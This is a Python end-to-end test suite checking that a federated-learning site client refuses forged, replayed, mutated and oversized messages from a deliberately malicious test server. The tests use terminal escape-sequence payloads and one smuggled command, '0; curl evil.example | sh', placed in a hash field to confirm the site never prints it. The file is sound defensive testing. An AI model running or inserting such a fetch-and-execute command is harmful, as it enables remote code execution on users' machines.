"""A server that is up to no good, and a real site: what it tries over TLS and gRPC, and fails at.

The site is `wardround-site join` as a program. The server belongs to the tests, with or
without the right keys.
"""

from __future__ import annotations

import json
import random
import time
from collections.abc import Callable, Iterator, Mapping
from dataclasses import replace
from typing import Any, get_args

import numpy as np
import pytest
from flwr.app import ConfigRecord, RecordDict

from tests.support.join_world import World, joined_world
from tests.support.nasty import NASTY, faults
from tests.support.tiny import write_model, write_texts
from wardround.common.credentials import new_key, public_line
from wardround.common.errors import Reason
from wardround.common.wire.arrays import to_record
from wardround.common.wire.codec import pack_hello, pack_notice
from wardround.common.wire.deadlines import LATE_SECONDS
from wardround.common.wire.messages import HELLO, TRAIN
from wardround.common.wire.objects import Object, record_objects
from wardround.common.wire.signing import RUN, RunStatement, payload_digest, sign

pytestmark = [pytest.mark.e2e, pytest.mark.slow, pytest.mark.timeout(600)]


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    """One site that has joined, for all tests."""
    folder = tmp_path_factory.mktemp("world")
    model, texts = (
        write_model(folder / "model", "bert"),
        write_texts(folder / "texts.csv", 48, seed=0),
    )
    with joined_world(folder, texts, model) as made:
        made.join()
        assert made.num_examples() == 38
        yield made


def refusals(world: World) -> dict[str, int]:
    """What the site has counted, by reason."""
    read: dict[str, int] = json.loads(
        (world.folder / "state" / "journal.json").read_text()
    )["refused"]
    return read


CASES: Mapping[str, tuple[str, Callable[[World], dict[str, Any]]]] = {
    "signed with another run's key": (
        "forged",
        lambda world: {"key": new_key("signing")},
    ),
    "unsigned": ("unsigned", lambda world: {"envelope": lambda said: None}),
    "an envelope that is no JSON": (
        "damaged",
        lambda world: {"envelope": lambda said: said | {"statement": "{"}},
    ),
    "a run that the coordinator did not sign": (
        "forged",
        lambda world: {"envelope": lambda said: said | {"run": said["statement"]}},
    ),
    "for another site": (
        "misdirected",
        lambda world: {"change": lambda s: replace(s, receiver="SHA256:other")},
    ),
    "under another kind": (
        "misdirected",
        lambda world: {"change": lambda s: replace(s, kind=TRAIN)},
    ),
    "of a run under another name": (
        "forged",
        lambda world: {"change": lambda s: replace(s, run="0" * 64)},
    ),
    "long over": (
        "expired",
        lambda world: {"change": lambda s: replace(s, expires=s.expires - 1000)},
    ),
    "an attempt that was answered": (
        "replayed",
        lambda world: {"change": lambda s: replace(s, attempt=1)},
    ),
    "a record that was not signed": (
        "forged",
        lambda world: {
            "after": lambda records: {
                **records,
                "more": _record(RecordDict({"m": ConfigRecord()})),
            }
        },
    ),
    "a record in another's place": (
        "forged",
        lambda world: {
            "after": lambda records: {
                "task": _record(pack_notice("you are told a lie"))
            }
        },
    ),
    "larger than it says": (
        "damaged",
        lambda world: {
            "change": lambda s: replace(
                s,
                records={k: (object_id, 9) for k, (object_id, _) in s.records.items()},
            )
        },
    ),
}


def _record(content: RecordDict) -> Object:
    (record,) = record_objects(content, {}).values()
    return record


@pytest.mark.parametrize("case", CASES)
def test_a_question_that_is_not_authentic_is_refused_and_counted(
    world: World, case: str
) -> None:
    reason, how = CASES[case]
    before = refusals(world).get(reason, 0)
    sent = world.hello(**how(world))
    assert world.fleet.refusal_of(sent) == reason
    assert refusals(world)[reason] == before + 1
    assert f"does not count and is refused: {reason}" in world.said()
    assert world.num_examples() == 38  # and the next honest one is answered


def test_the_same_message_twice_is_answered_once(world: World) -> None:
    sent = world.hello()
    world.fleet.answer(sent, world.key)
    again = world.fleet.again(sent)
    assert world.fleet.refusal_of(again) == "lost"
    first = next(asked for asked in world.fleet.sent if asked.statement.attempt == 1)
    earlier = world.fleet.again(first)
    assert world.fleet.refusal_of(earlier) == "replayed"


@pytest.mark.parametrize(
    "change", [lambda piece: piece[:-1] + b"\x07", lambda piece: piece + bytes(2**20)]
)
def test_tensors_that_are_not_what_was_signed_are_not_read(
    world: World, change: Callable[[bytes], bytes]
) -> None:
    """The bytes of a piece are changed on the way, and its id is not."""
    content = RecordDict(
        {"tensors": to_record({"shared": np.ones(1000, dtype=np.float32)})}
    )
    content["task"] = pack_hello(world.settings)["task"]
    chunk = next(_record(RecordDict({"tensors": content["tensors"]})).walk()).object_id
    honest = world.fleet.ask(TRAIN, content, world.key)
    assert (
        world.fleet.refusal_of(honest) == "failed"
    )  # it reached the worker, which says no

    def on_the_way(objects: dict[str, bytes]) -> None:
        objects[chunk] = change(objects[chunk])

    sent = world.fleet.ask(TRAIN, content, world.key, mutate=on_the_way)
    assert world.fleet.refusal_of(sent) == "damaged"
    assert world.num_examples() == 38


def test_a_message_that_trickles_in_is_given_up_when_its_time_is_over(
    world: World,
) -> None:
    world.fleet.before_object = lambda _: time.sleep(3)
    try:
        sent = world.hello(seconds=6 - LATE_SECONDS)
        world.wait_to_read("DEADLINE_EXCEEDED")
    finally:
        world.fleet.before_object = lambda _: None
    assert world.num_examples() == 38  # over another connection
    assert sent.reply is None


def test_unknown_kinds_and_words_for_a_terminal(world: World) -> None:
    sent = world.fleet.ask("train.something", pack_hello(world.settings), world.key)
    assert world.fleet.refusal_of(sent) == "unknown_kind"
    world.fleet.reply(
        world.fleet.ask(
            "query.notice", pack_notice("\x1b[2Jyou\nare\x07owned"), world.key
        )
    )
    world.wait_to_read('the server says: "[2Jyou are owned"')
    assert world.num_examples() == 38


def ledger_bytes(world: World) -> int:
    """What the site's ledger takes on the disk."""
    state = world.folder / "state"
    return sum(path.stat().st_size for path in state.glob("ledger.jsonl*"))


def test_messages_that_do_not_count_fill_no_disk(world: World) -> None:
    """An attacker can queue messages all day: unsigned ones, and repeated ones."""
    kind = "\x1b[2J" + "x" * 3000
    first = world.fleet.ask(
        "unsigned", pack_hello(None), world.key, envelope=lambda said: None
    )
    repeated = world.hello()
    assert world.fleet.refusal_of(first) == "unsigned"
    world.fleet.answer(repeated, world.key)
    assert world.fleet.refusal_of(world.fleet.again(repeated)) == "lost"
    before, log, counted = (
        ledger_bytes(world),
        len(world.said()),
        refusals(world)["unsigned"],
    )
    sent = [
        world.fleet.ask(
            kind,
            pack_hello(replace(world.settings, seed=seed)),
            world.key,
            envelope=_unsigned,
        )
        for seed in range(300)
    ]
    again = [world.fleet.again(repeated) for _ in range(50)]
    for question in sent:
        assert world.fleet.refusal_of(question) == "unsigned"
    for question in again:
        assert world.fleet.refusal_of(question) == "lost"
    assert refusals(world)["unsigned"] == counted + 300
    assert ledger_bytes(world) - before < 1000
    assert len(world.said()) - log < 1000
    assert world.num_examples() == 38


def _unsigned(said: dict[str, str]) -> None:
    """No envelope goes along."""


def test_a_wide_message_that_is_signed_costs_three_short_lines(world: World) -> None:
    """Thousands of records and fields; the server chooses their names and the type."""
    wide = RecordDict(
        {f"{number}\x1b[2J": ConfigRecord({"a": 1}) for number in range(300)}
    )
    names = [f"{number:04d}" + "\u202e" * 250 for number in range(900)]
    wide["task"] = ConfigRecord(dict.fromkeys(names, 1))
    before = ledger_bytes(world)
    sent = world.fleet.ask("train.\u202e" + "x" * 1000, wide, world.key)
    assert world.fleet.refusal_of(sent) == "unknown_kind"
    assert world.num_examples() == 38
    assert (
        ledger_bytes(world) - before < 6 * 2000
    )  # of this message and of the greeting after it


def test_a_hash_that_is_none_is_not_shown_as_a_command(world: World) -> None:
    """The site prints the missing line in a command: the server could forge that command."""
    word = "0; curl evil.example | sh"
    sent = world.hello(change=lambda s: replace(s, ledger=word))
    assert world.fleet.refusal_of(sent) == "damaged"
    assert word not in world.said()
    assert world.num_examples() == 38


def test_a_plan_that_has_no_hash_does_not_wedge_the_site(world: World) -> None:
    """It was part of a path: a name that is too long looked like a full disk."""
    run = RunStatement(
        "a run", public_line(world.fleet.run_key), 0.0, time.time() + 3600, "x" * 5000
    )
    envelope = sign(RUN, run, world.fleet.coordinator)
    sent = world.fleet.ask(
        TRAIN,
        RecordDict({"task": pack_hello(None)["task"]}),
        world.key,
        change=lambda s: replace(s, run=payload_digest(envelope)),
        envelope=lambda said: said | {"run": envelope},
    )
    assert world.fleet.refusal_of(sent) == "damaged"
    assert world.num_examples() == 38


@pytest.mark.parametrize("name", NASTY)
def test_a_notice_is_one_line_in_quotation_marks(world: World, name: str) -> None:
    before = len(world.said())
    world.fleet.reply(
        world.fleet.ask("query.notice", pack_notice(NASTY[name]), world.key)
    )
    world.wait_to_read("the server says")
    said = world.said()[before:].splitlines()
    assert len(said) == 1
    assert (faults(said[0], 400), said[0].count('"')) == ([], 2)


def test_two_hundred_mutated_questions(world: World) -> None:
    """Each costs one message; none ends the program, and none is answered as if it were honest."""
    dice, before = random.Random(0), sum(refusals(world).values())
    # With a seed each, so that no two messages share an object.
    hellos = [pack_hello(replace(world.settings, seed=number)) for number in range(200)]
    sent = [
        world.fleet.ask(
            HELLO, hello, world.key, mutate=lambda objects: mutate(objects, dice)
        )
        for hello in hellos
    ]
    for question in sent:
        assert world.fleet.refusal_of(question) in get_args(Reason)
    assert sum(refusals(world).values()) == before + 200
    assert world.processes[-1].poll() is None
    assert world.num_examples() == 38


def mutate(objects: dict[str, bytes], dice: random.Random) -> None:
    """Change one object's bytes, under the id it had."""
    chosen = dice.choice(sorted(objects))
    written = bytearray(objects[chosen])
    while bytes(written) == objects[chosen]:
        at = dice.randrange(len(written) + 1)
        written[at : at + dice.choice((0, 1, 40))] = dice.randbytes(
            dice.choice((0, 1, 40))
        )
    objects[chosen] = bytes(written)


def test_nothing_was_written_but_its_own_state(world: World) -> None:
    """After all of the above."""
    paths = (world.folder / "state").iterdir()
    names = sorted(
        path.name for path in paths if path.suffix != ".part"
    )  # a write that is not whole yet
    assert names == [".lock", "journal.json", "ledger.jsonl", "plans", "texts.key"]
